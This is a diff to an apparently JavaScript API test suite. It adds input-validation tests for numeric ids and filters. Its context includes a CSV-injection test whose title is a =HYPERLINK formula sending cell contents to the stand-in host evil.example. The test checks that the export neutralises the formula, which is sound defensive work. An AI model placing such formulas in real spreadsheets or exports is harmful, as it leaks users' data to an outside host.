@@ -48,6 +48,15 @@ describe('attack: the action plan', () => {
     expect(seen.status).toBe('planned');
   });
 
+  it('when the diagnostic filter or an item id is huge, hexadecimal or an exponent, then 400 naming it', async () => {
+    for (const v of ['0x10', '1e3', '99999999999', '-1']) {
+      const list = await api(`/api/actions?diagnostic=${v}`, { cookie: officer });
+      expect(list.status, v).toBe(400);
+      expect(list.body.error.details[0].field, v).toBe('diagnostic');
+      expect((await api(`/api/actions/${v}`, { method: 'PUT', cookie: officer, body: { status: 'done' } })).status, v).toBe(400);
+    }
+  });
+
   it('when an item\'s title starts a spreadsheet formula, then the CSV export neutralises it', async () => {
     const created = await api('/api/actions', { cookie: athis, body: { title: '=HYPERLINK("http://evil.example/?"&A1;"ok")', commune: '91027', origin: 'committee' } });
     expect(created.status, JSON.stringify(created.body)).toBe(201);
